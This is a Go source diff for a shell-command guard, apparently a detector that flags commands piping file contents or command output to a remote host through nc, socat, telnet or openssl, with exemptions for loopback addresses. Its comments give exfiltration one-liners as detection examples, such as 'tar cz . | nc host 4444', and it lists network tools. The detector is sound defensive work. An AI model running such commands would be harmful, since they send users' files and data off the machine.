@@ -3,6 +3,8 @@ package shellguard
 import (
 	"regexp"
 	"strings"
+
+	"github.com/toolcage/toolcage/policy/shellsyntax"
 )
 
 // What a command printed, placed in a network tool's arguments (a host
@@ -66,9 +68,135 @@ func (w *walker) outputToNetwork(seg *segment) {
 	w.detected("output_to_network", origins, seg.text)
 }
 
+// socketInput reports a raw socket tool (nc, socat, telnet, openssl
+// s_client) sending what a command printed or a file held (cat notes.txt |
+// nc host 80, tar cz . | nc host 4444) to another host. Text the command
+// line spells out (printf 'GET / HTTP/1.0\r\n\r\n' | nc host 80) is not
+// reported.
+func (w *walker) socketInput(seg *segment, stdin *data) {
+	if !sockets[seg.name] || stdin == nil || stdin.known() || stdin.shell || stdin.origins&(originOther|originDecode) == 0 {
+		return
+	}
+	if seg.name == "openssl" && !opensslNet(nonDropped(seg.args)) {
+		return
+	}
+	if onlyLoopback(seg) {
+		return
+	}
+	w.detected("output_to_network", stdin.origins, seg.text)
+}
+
 // dnsTools look their operands up: the name itself is what leaves.
 var dnsTools = map[string]bool{
 	"nslookup": true, "dig": true, "host": true, "drill": true, "delv": true, "kdig": true,
 	"resolvectl": true, "getent": true, "ping": true, "ping6": true, "fping": true, "traceroute": true,
 	"traceroute6": true, "tracepath": true, "mtr": true, "whois": true, "arping": true,
+}
+
+// addressOpts are curl options whose value names where a request goes.
+var addressOpts = map[string]bool{
+	"--url": true, "-x": true, "--proxy": true, "--preproxy": true, "--connect-to": true, "--resolve": true,
+}
+
+// onlyLoopback reports whether every address a network command names is
+// this machine (curl -d @body.json http://127.0.0.1:8080/api): a local
+// file sent to a local service leaves nothing. For curl every operand and
+// the values of --url, --proxy, --connect-to and --resolve are addresses;
+// for HTTPie the URL after the method; for others every operand that is
+// not an option.
+func onlyLoopback(seg *segment) bool {
+	args := nonDropped(seg.args)
+	curl := seg.name == "curl" || seg.name == "curlie"
+	httpie := seg.name == "http" || seg.name == "https" || seg.name == "xh" || seg.name == "xhs" || seg.name == "httpie"
+	loop := false
+	for i := 1; i < len(args); i++ {
+		a := args[i].e
+		if args[i].dyn {
+			return false // an address the command line does not show
+		}
+		if strings.HasPrefix(a, "-") && len(a) > 1 {
+			if !curl {
+				continue
+			}
+			name, val, hasVal := strings.Cut(a, "=")
+			if !strings.HasPrefix(a, "--") && len(a) > 2 {
+				// A cluster: the first letter taking a value takes the
+				// rest of the word, or the next word when it is last.
+				name, val, hasVal = a, "", false
+				for k := 1; k < len(a); k++ {
+					o := "-" + a[k:k+1]
+					if shellsyntax.CurlValueOpts[o] {
+						name, val, hasVal = o, a[k+1:], k+1 < len(a)
+						break
+					}
+				}
+			}
+			if hasVal {
+				if addressOpts[name] && !loopbackAddr(val) {
+					return false
+				}
+				continue
+			}
+			if (shellsyntax.CurlValueOpts[name] || addressOpts[name]) && i+1 < len(args) {
+				i++
+				if addressOpts[name] && !loopbackAddr(args[i].e) {
+					return false
+				}
+			}
+			continue
+		}
+		if httpie && !loop && strings.ToUpper(a) == a && !strings.ContainsAny(a, ".:/") {
+			continue // the method
+		}
+		if !curl && !httpie && isPort(a) {
+			continue
+		}
+		if !loopbackAddr(a) {
+			return false
+		}
+		loop = true
+		if httpie {
+			return true // the rest are request items
+		}
+	}
+	return loop
+}
+
+// loopbackAddr matches a URL, host or host:port on this machine, and
+// curl's --resolve/--connect-to values (host:port:addr[:port]) that send
+// it there.
+func loopbackAddr(v string) bool {
+	if loopbackArg.MatchString(v) {
+		return true
+	}
+	if strings.Contains(v, "://") {
+		return false
+	}
+	parts := strings.Split(v, ":")
+	if len(parts) >= 2 && socatAddr[strings.ToUpper(parts[0])] {
+		return loopbackArg.MatchString(parts[1]) // socat TCP:127.0.0.1:80
+	}
+	if len(parts) >= 3 {
+		return loopbackArg.MatchString(parts[2])
+	}
+	return false
+}
+
+// socatAddr are socat address types followed by host:port.
+var socatAddr = map[string]bool{
+	"TCP": true, "TCP4": true, "TCP6": true, "TCP-CONNECT": true, "UDP": true, "UDP4": true, "UDP6": true,
+	"UDP-SENDTO": true, "SSL": true, "OPENSSL": true, "OPENSSL-CONNECT": true, "SCTP": true, "SCTP-CONNECT": true,
+}
+
+// isPort is a bare port number (nc HOST PORT).
+func isPort(s string) bool {
+	if s == "" || len(s) > 5 {
+		return false
+	}
+	for i := 0; i < len(s); i++ {
+		if s[i] < '0' || s[i] > '9' {
+			return false
+		}
+	}
+	return true
 }
